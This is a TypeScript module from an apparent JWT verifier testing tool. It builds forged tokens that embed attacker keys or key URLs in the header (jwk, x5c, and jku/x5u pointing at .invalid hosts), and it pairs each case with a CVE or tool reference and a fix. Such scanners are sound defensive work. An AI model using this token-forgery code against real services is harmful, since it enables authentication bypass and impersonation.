import { attackerKid, signRs256, withoutKeyHints } from './token-parts';
import type { Attack, AttackInput } from './types';

/** Hosts under .invalid never resolve (RFC 2606): the header only shows whether it is trusted blindly. */
export const UNTRUSTED_KEY_URLS = {
  jku: 'https://keys.entra-api-guard.invalid/jwks.json',
  x5u: 'https://keys.entra-api-guard.invalid/attacker.pem',
} as const;

const EMBED_FIX = "take keys only from the configured issuer's JWKS; ignore jwk, x5c, jku and x5u in token headers";

function signedWith(header: (input: AttackInput) => Record<string, unknown>) {
  return (input: AttackInput): Promise<string> =>
    signRs256({ ...withoutKeyHints(input.token.header), ...header(input) }, input.token.claims, input.attacker.privateKey);
}

/** Keys (or key locations) carried in the token header itself. */
export const EMBEDDED_KEY_ATTACKS = [
  {
    code: 'embedded-jwk',
    family: 'embedded-key',
    title: 'attacker key in a jwk header, genuine kid',
    reference: 'CVE-2018-0114 (node-jose); jwt_tool -X i; PortSwigger lab "jwk header injection"',
    acceptance: 'accepted a token signed by the key in its own jwk header: anyone can sign tokens with a key of their own',
    fix: EMBED_FIX,
    craft: signedWith(({ token, attacker }) => ({ kid: token.kid, jwk: { ...attacker.publicJwk, kid: token.kid } })),
  },
  {
    code: 'embedded-jwk-new-kid',
    family: 'embedded-key',
    title: 'attacker key in a jwk header, new kid',
    reference: 'CVE-2018-0114 (node-jose); jwt_tool -X i',
    acceptance: 'accepted a token signed by the key in its own jwk header (under a kid the issuer never published)',
    fix: EMBED_FIX,
    craft: signedWith(({ attacker }) => {
      const kid = attackerKid();
      return { kid, jwk: { ...attacker.publicJwk, kid } };
    }),
  },
  {
    code: 'embedded-x5c',
    family: 'embedded-key',
    title: "x5c with the attacker's self-signed certificate",
    reference: 'jwt_tool playbook (x5c); Burp JWT Editor; ZAP JWT add-on',
    acceptance: 'accepted a token signed by the self-signed certificate in its x5c header: certificate chains are not validated',
    fix: EMBED_FIX,
    craft: signedWith(({ attacker }) => ({ kid: attackerKid(), x5c: [Buffer.from(attacker.certificateDer).toString('base64')] })),
  },
  {
    code: 'jku-untrusted-host',
    family: 'embedded-key',
    title: 'jku pointing at a host under .invalid',
    reference: 'jwt_tool -X s (spoof JWKS); PortSwigger lab "jku header injection"',
    acceptance: 'accepted a token whose jku names a key set on an unknown host: the header is trusted blindly (no fetch can be shown from outside)',
    fix: EMBED_FIX,
    craft: signedWith(() => ({ kid: attackerKid(), jku: UNTRUSTED_KEY_URLS.jku })),
  },
  {
    code: 'x5u-untrusted-host',
    family: 'embedded-key',
    title: 'x5u pointing at a host under .invalid',
    reference: 'jwt_tool playbook (x5u); ZAP JWT add-on',
    acceptance: 'accepted a token whose x5u names a certificate on an unknown host: the header is trusted blindly (no fetch can be shown from outside)',
    fix: EMBED_FIX,
    craft: signedWith(() => ({ kid: attackerKid(), x5u: UNTRUSTED_KEY_URLS.x5u })),
  },
] as const satisfies readonly Attack[];
